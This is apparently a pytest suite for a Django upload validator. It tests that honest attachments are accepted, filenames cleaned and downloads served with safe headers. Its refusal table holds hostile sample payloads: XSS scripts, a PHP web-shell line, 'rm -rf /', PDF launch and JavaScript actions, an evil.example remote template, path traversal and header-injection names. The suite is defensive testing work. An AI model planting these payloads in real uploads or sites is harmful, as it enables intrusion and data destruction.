"""Attachments: honest files come in, hostile ones are refused or made inert, all go out harmlessly."""

import hashlib
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

from chuangxian.uploads import MAX_NAME, TYPES, Accepted, BadUpload, accept, clean_name, serve

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


def pdf(extra: bytes = b"") -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R" + extra + b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def picture(form: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: object) -> bytes:
    stream = BytesIO()
    Image.new(mode, size, 120).save(stream, form, **options)
    return stream.getvalue()


MAIN = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
}


def office(kind: str = "docx", parts: dict[str, bytes] | None = None, main: str = "") -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        types = f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="{main or MAIN[kind]}"/></Types>'
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<w/>")
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return stream.getvalue()


def relations(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def plain_zip() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("a.exe", EXE)
    return stream.getvalue()


def bomb(kind: str) -> bytes:
    return office(kind, {"word/media/a.bin": b"\0" * 60_000_000})


def many_parts() -> bytes:
    return office("docx", {f"word/p{number}.xml": b"x" for number in range(2_100)})


def png_claiming(width: int, height: int) -> bytes:
    """A few bytes that say they are a huge picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 10_000))
        + chunk(b"IEND", b"")
    )


def animated(form: str) -> bytes:
    stream = BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(stream, form, save_all=True, append_images=frames[1:])
    return stream.getvalue()


def take(name: str, content: bytes, **options: int) -> Accepted:
    return accept(Named(name, content), **options)


class Named(BytesIO):
    """An open file with any name at all (Django's own upload class already cleans some)."""

    def __init__(self, name: str, content: bytes) -> None:
        super().__init__(content)
        self.name = name


REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "svg": ("图.svg", lambda: SVG),
    "svg named png": ("图.png", lambda: SVG),
    "svg named jpg": ("图.jpg", lambda: b'<?xml version="1.0"?>' + SVG),
    "svg named txt": ("图.txt", lambda: SVG),
    "html": ("页.html", lambda: HTML),
    "html named pdf": ("页.pdf", lambda: HTML),
    "html named jpg": ("页.jpg", lambda: HTML),
    "html named txt": ("页.txt", lambda: HTML),
    "html after blanks named txt": ("页.txt", lambda: b"\n\n   " + HTML),
    "html with a byte order mark named txt": ("页.txt", lambda: b"\xef\xbb\xbf" + HTML),
    "script named txt": ("页.txt", lambda: SCRIPT),
    "php named txt": ("页.txt", lambda: b"<?php system($_GET[0]);"),
    "shell script named txt": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "xhtml": ("页.xhtml", lambda: HTML),
    "mhtml": ("页.mht", lambda: HTML),
    "javascript": ("a.js", lambda: b"alert(1)"),
    "executable": ("a.exe", lambda: EXE),
    "executable named pdf": ("a.pdf", lambda: EXE),
    "executable named docx": ("a.docx", lambda: EXE),
    "executable named txt": ("a.txt", lambda: EXE),
    "pdf then exe": ("报告.pdf.exe", lambda: pdf()),
    "exe then pdf": ("报告.exe.pdf", lambda: pdf()),
    "html then jpg": ("页.html.jpg", lambda: picture("JPEG")),
    "php then png": ("页.php.png", lambda: picture()),
    "right-to-left override": ("报告\u202efdp.exe", lambda: pdf()),
    "override hiding exe before pdf": ("a\u202efdp.exe.pdf", lambda: pdf()),
    "NUL before the suffix": ("a.exe\0.pdf", lambda: pdf()),
    "NUL after the suffix": ("a.pdf\0.exe", lambda: pdf()),
    "no suffix": ("报告", lambda: pdf()),
    "only a suffix": (".pdf", lambda: pdf()),
    "empty name": ("", lambda: pdf()),
    "dots": ("..", lambda: pdf()),
    "slash at the end": ("a.pdf/", lambda: pdf()),
    "trailing dot on exe": ("a.exe.", lambda: EXE),
    "stream name": ("a.pdf:evil.exe", lambda: EXE),
    "EICAR named pdf": ("eicar.pdf", lambda: EICAR),
    "EICAR named com": ("eicar.com", lambda: EICAR),
    "EICAR named jpg": ("eicar.jpg", lambda: EICAR),
    "EICAR named docx": ("eicar.docx", lambda: EICAR),
    "empty file": ("a.pdf", lambda: b""),
    "too large": ("a.txt", lambda: b"a" * (20 * 2**20 + 1)),
    "html before the pdf header": ("a.pdf", lambda: HTML + pdf()),
    "pdf with script": ("a.pdf", lambda: pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf with a script name in hex": ("a.pdf", lambda: pdf(b"/OpenAction<</S/Java#53cript/J#53(x)>>")),
    "pdf with launch": ("a.pdf", lambda: pdf(b"/A<</S/Launch/F(cmd.exe)>>")),
    "pdf with enclosed file": ("a.pdf", lambda: pdf(b"/F<</Type/EmbeddedFile>>")),
    "pdf cut short": ("a.pdf", lambda: pdf()[:40]),
    "zip named docx": ("a.docx", plain_zip),
    "zip named xlsx": ("a.xlsx", plain_zip),
    "docx named xlsx": ("a.xlsx", lambda: office("docx")),
    "xlsx named pptx": ("a.pptx", lambda: office("xlsx")),
    "docx with macro": ("a.docx", lambda: office("docx", {"word/vbaProject.bin": b"x"})),
    "docm named docx": ("a.docx", lambda: office(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
    "docx with ActiveX": ("a.docx", lambda: office("docx", {"word/activeX/activeX1.xml": b"x"})),
    "docx with an OLE object": ("a.docx", lambda: office("docx", {"word/embeddings/oleObject1.bin": b"x"})),
    "docx with remote template": ("a.docx", lambda: office("docx", {"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://evil.example/t.dotm")})),
    "docx with remote picture": ("a.docx", lambda: office("docx", {"word/_rels/document.xml.rels": relations("image", "file://evil/share")})),
    "xlsx with external link": ("a.xlsx", lambda: office("xlsx", {"xl/externalLinks/externalLink1.xml": b"x"})),
    "docx bomb": ("a.docx", lambda: bomb("docx")),
    "docx with too many parts": ("a.docx", many_parts),
    "docx with a path outside": ("a.docx", lambda: office("docx", {"../../etc/cron.d/x": b"x"})),
    "docx with entities in its types": ("a.docx", lambda: office(main="&a;")),
    "huge picture in few bytes": ("a.png", lambda: png_claiming(60_000, 60_000)),
    "large picture in few bytes": ("a.png", lambda: png_claiming(9_000, 9_000)),
    "picture cut short": ("a.jpg", lambda: picture("JPEG", (400, 300))[:500]),
    "gif named png": ("a.png", lambda: picture("GIF", mode="P")),
    "png named jpg": ("a.jpg", lambda: picture("PNG")),
    "bmp named webp": ("a.webp", lambda: picture("BMP")),
    "tiff named jpg": ("a.jpg", lambda: picture("TIFF")),
    "animated webp": ("a.webp", lambda: animated("WEBP")),
    "animated png": ("a.png", lambda: animated("PNG")),
    "binary named txt": ("a.txt", lambda: bytes(range(256)) * 20),
    "neither UTF-8 nor GB18030": ("a.txt", lambda: b"\xff\xff\xff\xff"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_hostile_upload_is_refused_with_a_sentence(case: str) -> None:
    name, make = REFUSED[case]
    with pytest.raises(BadUpload) as refusal:
        take(name, make())
    sentence = refusal.value.sentence
    assert sentence.endswith("。")
    assert not any(char in sentence for char in "\0\u202e")
    assert len(sentence) < 250


def test_there_are_sixty_hostile_files() -> None:
    assert len(REFUSED) >= 60


@pytest.mark.parametrize(
    ("name", "content", "suffix"),
    [
        ("总结.pdf", pdf(), "pdf"),
        ("总结.docx", office("docx"), "docx"),
        ("总结.pptx", office("pptx"), "pptx"),
        ("照片.JPG", picture("JPEG"), "jpg"),
        ("照片.jpeg", picture("JPEG"), "jpg"),
        ("照片.png", picture("PNG"), "png"),
        ("照片.webp", picture("WEBP"), "webp"),
        ("说明.txt", "活动说明\n第二行".encode(), "txt"),
    ],
)
def test_honest_upload_is_taken(name: str, content: bytes, suffix: str) -> None:
    taken = take(name, content)
    assert (taken.suffix, taken.content_type) == (suffix, TYPES[suffix])
    assert taken.size == len(taken.content)
    assert taken.sha256 == hashlib.sha256(taken.content).hexdigest()


def test_real_workbook_is_taken_unchanged() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "甲"
    book.active["A1"].hyperlink = "mailto:a@example.com"
    stream = BytesIO()
    book.save(stream)
    assert take("表.xlsx", stream.getvalue()).content == stream.getvalue()


def test_django_upload_is_taken() -> None:
    assert accept(SimpleUploadedFile("说明.txt", b"abc")).content == b"abc"


def test_limit_is_the_callers() -> None:
    with pytest.raises(BadUpload, match="超过 1 MB"):
        take("a.txt", b"a" * (2**20 + 1), max_bytes=2**20)
    assert take("a.txt", b"a" * 2**20, max_bytes=2**20).size == 2**20


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
def test_text_is_stored_as_utf8(encoding: str) -> None:
    assert take("a.txt", "创先争优".encode(encoding)).content.decode() == "创先争优"


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_nothing_but_pixels_survives_in_a_picture(form: str) -> None:
    exif = Image.Exif()
    exif[0x010E] = "SECRET-PLACE"
    marked = picture(form, exif=exif) + b"PK\x03\x04" + plain_zip() + SCRIPT
    suffix = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp"}[form]
    taken = take(f"a.{suffix}", marked)
    for trace in (b"SECRET", b"<script", b"PK\x03\x04", b"Exif"):
        assert trace not in taken.content
    assert Image.open(BytesIO(taken.content)).size == (40, 30)


def test_text_chunks_of_a_png_are_dropped() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    stream = BytesIO()
    Image.new("RGB", (9, 9)).save(stream, "PNG", pnginfo=info)
    assert b"script" not in take("a.png", stream.getvalue()).content


def test_picture_is_turned_upright_and_scaled_down() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # lies on its side
    taken = take("a.jpg", picture("JPEG", (5000, 1000), exif=exif))
    width, height = Image.open(BytesIO(taken.content)).size
    assert height == 4096 and 800 <= width <= 850


@pytest.mark.parametrize(
    ("mode", "form", "after"),
    [("1", "PNG", "L"), ("L", "PNG", "L"), ("P", "PNG", "RGB"), ("RGBA", "PNG", "RGBA"), ("I;16", "PNG", "L"), ("CMYK", "JPEG", "RGB")],
)  # fmt: skip
def test_picture_of_every_mode_is_taken(mode: str, form: str, after: str) -> None:
    stream = BytesIO()
    Image.new(mode, (30, 20)).save(stream, form)
    taken = take("a.png" if form == "PNG" else "a.jpg", stream.getvalue())
    assert Image.open(BytesIO(taken.content)).mode == after


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/总结.pdf", "总结.pdf"),
        ("C:\\文档\\总结.pdf", "总结.pdf"),
        ("..\\..\\总结.pdf", "总结.pdf"),
        ("/etc/passwd/总结.pdf", "总结.pdf"),
        ("总\u202e结\u200b.pdf", "总结.pdf"),
        ("总  结 .pdf", "总 结.pdf"),
        (' <b>"总结"|?*.pdf', "_b__总结____.pdf"),
        ("总结\r\nSet-Cookie: a=1.pdf", "总结__Set-Cookie_ a=1.pdf"),
        ("..总结.pdf", "总结.pdf"),
        ("con.pdf", "附件_con.pdf"),
        ("总结.ＰＤＦ", "总结.pdf"),
        ("é.pdf", "é.pdf"),
        ("2010年7月.总结.pdf", "2010年7月.总结.pdf"),
    ],
)
def test_name_is_cleaned_but_kept(raw: str, clean: str) -> None:
    assert clean_name(raw) == (clean, "pdf")


def test_name_of_four_thousand_characters_is_cut_before_its_suffix() -> None:
    for length in (4_096, 20_000):
        name, _ = clean_name("长" * length + ".pdf")
        assert len(name) == MAX_NAME and name.endswith("长.pdf")


@pytest.mark.parametrize(
    ("content_type", "disposition"),
    [
        ("application/pdf", "inline"),
        ("image/png", "inline"),
        (TYPES["docx"], "attachment"),
        (TYPES["txt"], "attachment"),
        ("text/html", "attachment"),
        ("image/svg+xml", "attachment"),
    ],
)
def test_only_pdf_and_pictures_open_in_the_browser(content_type: str, disposition: str) -> None:
    response = serve(ContentFile(b"abc", name="x"), name="总结 “一”.pdf", content_type=content_type)
    assert response["Content-Disposition"].startswith(disposition)
    assert "filename*=utf-8''%E6%80%BB%E7%BB%93" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert (
        "sandbox" in response["Content-Security-Policy"] and "default-src 'none'" in response["Content-Security-Policy"]
    )
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"] not in ("text/html", "image/svg+xml")
    assert b"".join(response.streaming_content) == b"abc"  # type: ignore[arg-type]


def test_name_cannot_add_a_header() -> None:
    response = serve(ContentFile(b"a", name="x"), name='a";\r\nX-Evil: 1.pdf', content_type="application/pdf")
    assert "\r" not in response["Content-Disposition"] and "X-Evil" not in response.headers
